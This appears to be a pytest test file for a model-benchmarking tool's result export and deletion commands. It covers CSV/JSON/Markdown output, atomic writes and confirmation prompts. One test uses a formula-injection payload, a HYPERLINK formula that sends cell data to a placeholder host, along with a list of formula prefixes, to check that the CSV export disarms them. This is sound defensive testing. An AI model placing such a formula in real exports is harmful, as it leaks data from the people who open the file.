"""`results`: what is stored leaves it as it is, whole, and only when it was meant to."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from gguf_bench.excerpt import DEFAULT_EXCERPT_CHARS, excerpt
from gguf_bench.export import COLUMNS, as_text, escaped
from gguf_bench.store import Store
from tests.disks import NotHere, fill, small_disk
from tests.filled_store import RUN, filled

Command = Callable[..., "subprocess.CompletedProcess[str]"]


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """Its run 2 has three contenders with 20 answers each, and one that failed."""
    return filled(tmp_path / "r.db")


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_score_can_be_computed_from_what_is_exported(store: Path, gguf_bench: Command) -> None:
    found = gguf_bench("--db", store, "results", "export", 2)
    rows = table(found.stdout)
    assert (found.returncode, found.stderr, tuple(rows[0])) == (0, "", COLUMNS)
    kinds = ("kind_basic", "kind_diluted", "kind_adjusted")
    assert all(float(row["score"]) == sum(row[kind] == "right" for kind in kinds) / 3 for row in rows)
    means = {
        name: sum(float(row["score"]) for row in rows if row["contender"] == name) / 20
        for name in dict.fromkeys(row["contender"] for row in rows)
    }
    assert list(means.items()) == [("bloop_1b Q8_0", 0.9), ("zorp_3b Q4_K_M", 0.7), ("bloop_1b Q2_K", 0.5)]
    assert (rows[0]["document_id"], rows[0]["company"], rows[0]["period"]) == ("d000000", "Quellmark 0 Inc.", "Q2 2024")
    assert (rows[0]["gold_basic"], rows[0]["basic"], rows[0]["gold_adjusted"]) == ("1.50", "1.5", "")


def test_json_has_what_csv_has(store: Path, gguf_bench: Command) -> None:
    answers = json.loads(gguf_bench("--db", store, "results", "export", 2, "--json").stdout)
    assert len(answers) == 60
    assert tuple(answers[0]) == COLUMNS
    rows = table(gguf_bench("--db", store, "results", "export", 2, "--csv").stdout)
    assert [["" if value is None else str(value) for value in each.values()] for each in answers] == [
        list(row.values()) for row in rows
    ]


@pytest.mark.parametrize(
    ("name", "form", "begins"),
    [
        ("a.csv", (), "run_id,"),
        ("a.JSON", (), "[\n"),
        ("a.md", (), "**Run 2"),
        ("a", (), "run_id,"),
        ("a.csv", ("--json",), "[\n"),
    ],
)
def test_the_form_is_the_suffix_s_where_none_is_asked_for(
    store: Path, gguf_bench: Command, tmp_path: Path, name: str, form: tuple[str, ...], begins: str
) -> None:
    found = gguf_bench("--db", store, "results", "export", 2, *form, "-o", tmp_path / "new" / name)
    assert (found.returncode, found.stdout, found.stderr) == (0, "", "")
    assert (tmp_path / "new" / name).read_text().startswith(begins)


def test_a_file_is_what_standard_output_would_be(store: Path, gguf_bench: Command, tmp_path: Path) -> None:
    gguf_bench("--db", store, "results", "export", 2, "-o", tmp_path / "a.csv")
    command = [sys.executable, "-m", "gguf_bench", "--db", str(store), "results", "export", "2"]
    assert (tmp_path / "a.csv").read_bytes() == subprocess.run(command, capture_output=True, check=True).stdout


def test_a_file_is_written_whole_or_not_at_all(gguf_bench: Command, tmp_path: Path) -> None:
    store = filled(tmp_path / "r.db", n_documents=2000)
    try:
        with small_disk(256 * 1024) as disk:
            (disk / "a.csv").write_text("before")
            found = gguf_bench("--db", store, "results", "export", 2, "-o", disk / "a.csv")
            assert (found.returncode, found.stdout) == (1, "")
            assert f"{disk}/a.csv: No space left on device; nothing was written" in found.stderr
            assert [(path.name, path.read_text()) for path in disk.iterdir()] == [("a.csv", "before")]
            assert fill(disk).stat().st_size < 300_000
    except NotHere as why:
        pytest.skip(str(why))


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        *((text, f"'{text}") for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "\n", "-")),
        *((text, text) for text in ("-0.57", "+1", "1.50", "", "{}", "a=b", "'=1", "x-y")),
        *((number, number) for number in (-0.57, 1, None)),
    ],
)
def test_no_spreadsheet_computes_what_a_model_said(cell: object, shown: object) -> None:
    assert as_text(cell) == shown


def test_formulas_are_disarmed_in_csv_and_untouched_in_json(gguf_bench: Command, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://x/?"&A1)'
    store = filled(tmp_path / "r.db", hostile=formula)
    outputs = {row["output"] for row in table(gguf_bench("--db", store, "results", "export", 2).stdout)}
    assert outputs == {'{"basic": 1.5}', f"'{formula}"}
    answers = json.loads(gguf_bench("--db", store, "results", "export", 2, "--json").stdout)
    assert {answer["output"] for answer in answers} == {'{"basic": 1.5}', formula}


def test_markdown_has_the_leaderboard_and_the_verdicts(store: Path, gguf_bench: Command) -> None:
    with closing(sqlite3.connect(store)) as connection, connection:
        connection.execute("update contenders set model = 'a|b_<i>*' where model = 'zorp_3b'")
    lines = gguf_bench("--db", store, "results", "export", 2, "--markdown").stdout.splitlines()
    assert lines[0] == "**Run 2 a run: 20 documents of made-up**"
    assert lines[3].count("|") == lines[2].count("|") == 10
    assert lines[4].startswith("| bloop_1b | Q8_0 |")
    assert "| 90.0 |" in lines[4]
    assert lines[5].startswith(r"| a\|b\_\<i\>\* | Q4_K_M |")
    assert "- wreck_7b Q4_0 failed: died (SIGSEGV)" in lines
    assert any(line.startswith("- bloop_1b Q8_0 is better than bloop_1b Q2_K by 40.0 points") for line in lines)


def test_what_is_pasted_is_text() -> None:
    assert escaped("<script>\n[x](y) `z` _em_ a_b") == r"\<script\> \[x\](y) \`z\` \_em\_ a_b"


def test_an_export_takes_little_memory(tmp_path: Path) -> None:
    """Thirty times as many answers take hardly more of it."""
    small, large = (filled(tmp_path / f"{n}.db", n_documents=n) for n in (200, 6_000))
    script = (
        "import resource, sys; from gguf_bench.cli.commands import cli\n"
        "cli(sys.argv[1:], standalone_mode=False)\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)"
    )

    def peak_kib(store: Path, form: str) -> int:
        command = [sys.executable, "-c", script, "--db", str(store), "results", "export", "2", form]
        found = subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, check=True)
        return int(found.stderr)

    for form in ("--csv", "--json"):
        assert peak_kib(large, form) - peak_kib(small, form) < 6_000


@pytest.mark.parametrize("command", [("export", "9"), ("delete", "9", "--yes")])
def test_what_is_not_there_is_told(store: Path, gguf_bench: Command, tmp_path: Path, command: tuple[str, ...]) -> None:
    target = ("-o", tmp_path / "a.csv") if command[0] == "export" else ()
    found = gguf_bench("--db", store, "results", *command, *target)
    assert (found.returncode, found.stdout) == (1, "")
    assert "there is no run 9" in found.stderr
    assert not (tmp_path / "a.csv").exists()


def test_a_comparison_keeps_what_was_read(releases: Path, tmp_path: Path, gguf_bench: Command) -> None:
    """Whole, each document's own, and once for both of its runs."""
    path = tmp_path / "new.db"
    for name in ("one", "other"):
        found = gguf_bench("--db", path, "compare", "baseline_null", "--dataset", releases, "--name", name)
        assert found.returncode == 0, found.stderr
    documents = [json.loads(line) for line in releases.read_text().splitlines()]
    expected = {document["id"]: excerpt(document["text"], DEFAULT_EXCERPT_CHARS) for document in documents}
    with closing(Store(path, to_read=True)) as store:
        assert store.excerpt_texts(1, expected) == store.excerpt_texts(2, expected) == expected
        assert store.rows("select count(*) as n from texts") == [{"n": len(documents)}]


# Deleting


def ids(store: Path) -> list[int]:
    with closing(Store(store, to_read=True)) as opened:
        return [run["id"] for run in opened.runs()]


def test_delete_without_a_terminal_wants_yes(store: Path, gguf_bench: Command) -> None:
    found = gguf_bench("--db", store, "results", "delete", 2)
    assert (found.returncode, found.stdout) == (2, "")
    assert "--yes deletes without asking" in found.stderr
    assert ids(store) == [2, 1]


def test_delete_with_yes_deletes(store: Path, gguf_bench: Command) -> None:
    found = gguf_bench("--db", store, "results", "delete", 2, 2, "--yes")
    assert (found.returncode, found.stdout) == (0, "")
    assert "deleted run 2 'a run' of " in found.stderr
    assert "4 contenders, 60 answers to made-up" in found.stderr
    assert ids(store) == [1]
    assert len(gguf_bench("--db", store, "query", "select * from documents", "--nl").stdout.splitlines()) == 20


@pytest.mark.parametrize(("answer", "exit_code", "left"), [("n", 1, [2, 1]), ("", 1, [2, 1]), ("y", 0, [1])])
def test_delete_asks(store: Path, answer: str, exit_code: int, left: list[int]) -> None:
    controller, terminal = pty.openpty()
    command = [sys.executable, "-m", "gguf_bench", "--db", str(store), "results", "delete", "2"]
    with subprocess.Popen(command, stdin=terminal, stderr=subprocess.PIPE, text=True) as process:
        os.close(terminal)
        os.write(controller, f"{answer}\n".encode())
        assert process.stderr is not None
        said = process.stderr.read()
    os.close(controller)
    assert (process.returncode, ids(store)) == (exit_code, left)
    assert "60 answers to made-up" in said
    assert "Delete for good?" in said
    assert ("nothing was deleted" in said) == bool(exit_code)


# Many runs


def test_of_many_runs_the_newest_are_listed(tmp_path: Path, gguf_bench: Command) -> None:
    path = tmp_path / "r.db"
    with closing(Store(path)) as store:
        for number in range(40):
            store.create_run(RUN | {"name": f"n{number}", "n_documents": 1}, [])
    found = gguf_bench("--db", path, "results", "list")
    lines = found.stdout.splitlines()
    assert found.stderr == "only the newest 30 of 40 runs are shown; --all shows every one\n"
    assert [name for name in found.stdout.split() if name.startswith("n") and name[1:].isdigit()] == [
        f"n{number}" for number in range(39, 9, -1)
    ]
    assert max(map(len, lines)) <= 80
    everyone = gguf_bench("--db", path, "results", "list", "--all")
    assert (everyone.stderr, " n0 " in everyone.stdout) == ("", True)
    assert len(json.loads(gguf_bench("--db", path, "results", "list", "--json").stdout)) == 40
